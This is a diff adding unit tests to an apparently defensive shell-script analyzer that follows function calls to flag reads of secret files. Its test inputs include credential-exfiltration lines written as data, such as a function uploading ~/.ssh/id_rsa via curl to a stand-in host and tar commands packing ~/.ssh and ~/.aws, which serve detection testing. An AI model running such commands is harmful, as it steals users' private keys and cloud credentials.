@@ -148,3 +148,53 @@ def test_after_cd_home_a_relative_operand_is_a_home_file() -> None:
     assert "secrets.read[ssh]" in secrets("cd ~ && tar czf /tmp/k.tgz .ssh")
     assert not secrets("cd /srv/app\nzip -r /tmp/k.zip .ssh")
 
+
+
+# ---- the script's own functions, followed from each call --------------------------------------------
+
+def test_a_call_follows_the_function_body_with_its_words_bound() -> None:
+    text = "up() { curl -F \"f=@$1\" https://drop.example.net/u; }\nup ~/.ssh/id_rsa\n"
+    script = parse_script(text)
+    assert ["curl", "-F", "f=@~/.ssh/id_rsa", "https://drop.example.net/u"] in [c.argv for c in script.commands]
+    call = next(c for c in script.commands if c.argv[0] == "up")
+    assert call.function  # the call runs no program
+    assert secrets(text) == {"secrets.read[ssh]"}
+
+
+def test_a_function_call_is_not_a_program_reading_its_operands() -> None:
+    text = "mode() { stat -c %a \"$1\"; }\nfor f in ~/.aws/credentials ~/.netrc; do m=$(mode \"$f\"); done\n"
+    assert secrets(text) == set()
+    assert not any(f.rule_id == "shell-exec" and "`mode`" in f.message for f in analyze_command(text, SCRIPT))
+
+
+def test_all_arguments_of_a_call_travel_through_quoted_at() -> None:
+    text = "pack() { tar czf /tmp/b.tgz \"$@\"; }\nD=(~/.ssh ~/.aws)\npack \"${D[@]}\" notes.txt\n"
+    assert ["tar", "czf", "/tmp/b.tgz", "~/.ssh", "~/.aws", "notes.txt"] in argvs(text)
+
+
+def test_what_a_function_prints_is_known_when_every_printing_command_is() -> None:
+    text = ("keep() { for p in \"$@\"; do [ -e \"$HOME/$p\" ] && printf '%s\\n' \"$p\"; done; }\n"
+            "mapfile -t got < <(keep .ssh .aws)\n"
+            "tar czf /tmp/b.tgz -C \"$HOME\" \"${got[@]}\"\n")
+    assert ["tar", "czf", "/tmp/b.tgz", "-C", "~", ".ssh", ".aws"] in argvs(text)
+    unknown = "names() { ls ~/p; }\nmapfile -t got < <(names)\ntar czf /tmp/b.tgz \"${got[@]}\"\n"
+    assert ["tar", "czf", "/tmp/b.tgz", None] in argvs(unknown)
+
+
+def test_mapfile_without_t_or_from_unknown_output_is_a_run_time_value() -> None:
+    assert argvs("mapfile got < <(printf 'a\\nb\\n')\ncat \"${got[@]}\"\n")[-1] == ["cat", None]
+    assert argvs("mapfile -t got <<< \"$(date)\"\ncat \"${got[@]}\"\n")[-1] == ["cat", None]
+    assert argvs("readarray -t got <<< 'a'\ncat \"${got[@]}\"\n")[-1] == ["cat", "a"]
+
+
+def test_recursion_and_repeated_calls_are_followed_once() -> None:
+    text = "f() { cat \"$1\"; f \"$1\"; }\nf a\nf a\nf b\n"
+    cats = [c.argv for c in parse_script(text).commands if c.argv and c.argv[0] == "cat"]
+    assert cats == [["cat", None], ["cat", "a"], ["cat", "b"]]  # the definition, then one pass per distinct call
+
+
+def test_calls_past_the_expansion_bound_are_not_followed_and_said() -> None:
+    calls = "\n".join(f"f v{i}" for i in range(MAX_EXPANSIONS + 3))
+    script = parse_script("f() { cat \"$1\"; }\n" + calls + "\n")
+    assert script.expansions_cut
+    assert sum(1 for c in script.commands if c.argv[0] == "cat") == MAX_EXPANSIONS + 1
